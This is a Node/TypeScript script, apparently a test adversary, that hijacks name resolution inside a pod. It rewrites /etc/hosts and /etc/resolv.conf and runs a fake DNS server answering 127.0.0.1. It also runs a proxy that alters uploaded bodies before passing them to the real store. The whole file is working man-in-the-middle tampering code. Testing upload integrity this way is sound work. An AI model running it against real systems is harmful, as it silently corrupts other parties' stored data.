import { createSocket } from 'node:dgram'
import { appendFileSync, writeFileSync } from 'node:fs'
import { createServer, request as send } from 'node:http'
import { buffer } from 'node:stream/consumers'

/*
 * A worker that wants its uploader to speak to it instead of the store. It changes the files by
 * which the pod's containers find the store's name, and passes requests on to the real store,
 * altered.
 *
 * node false-store.ts NAME ADDRESS PORT: the store's name, real address and port.
 */

const [name = '', address = '', port = ''] = process.argv.slice(2)
const own = '127.0.0.1'
let requests = 0

createServer(async (incoming, outgoing) => {
  requests += 1
  const body = await buffer(incoming)
  const altered = Buffer.from(body.toString('latin1').replaceAll('right', 'wrong'), 'latin1')
  const { method, url: path, headers } = incoming
  send({
    host: address,
    port,
    method,
    path,
    headers: { ...headers, 'content-length': altered.length },
    setHost: false,
  })
    .on('response', (answer) => {
      outgoing.writeHead(answer.statusCode ?? 502, answer.headers)
      answer.pipe(outgoing)
    })
    .on('error', () => outgoing.destroy())
    .end(altered)
}).listen(Number(port))

/** Answers every question for an IPv4 address with `own`, every other one with nothing. */
const names = createSocket('udp4', (question, { port: to, address: from }) => {
  const end = question.indexOf(0, 12) + 5
  const isAddress = question.readUInt16BE(end - 4) === 1
  const head = Buffer.from(question.subarray(0, 12))
  head.writeUInt16BE(0x8180, 2)
  head.writeUInt16BE(isAddress ? 1 : 0, 6)
  head.fill(0, 8)
  const answer = Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, ...own.split('.').map(Number)])
  names.send(Buffer.concat([head, question.subarray(12, end), ...(isAddress ? [answer] : [])]), to, from)
}).bind(53)

appendFileSync('/etc/hosts', `${own} ${name}\n`)
writeFileSync('/etc/resolv.conf', `nameserver ${own}\noptions ndots:0\n`)
writeFileSync(`${process.env.RESULT_DIRECTORY}/file`, 'the right bytes\n')
console.log('changed')

setTimeout(() => {
  console.log(`requests of others: ${requests}`)
  // Whoever stores the results does it after this process: the proxy has to outlive it.
  process.exit(0)
}, 8000)
